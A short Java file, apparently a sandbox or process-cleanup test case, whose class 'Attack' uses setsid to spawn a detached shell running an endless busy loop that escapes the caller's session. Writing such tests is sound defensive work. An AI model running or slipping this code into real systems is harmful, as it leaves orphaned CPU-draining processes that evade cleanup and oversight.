// Leaves a busy process in a new session.
class Attack {
  static void attack() throws Exception {
    new ProcessBuilder("/usr/bin/setsid", "-f", "/bin/sh", "-c", "while :; do :; done").inheritIO().start().waitFor();
    System.out.println("done");
  }
}
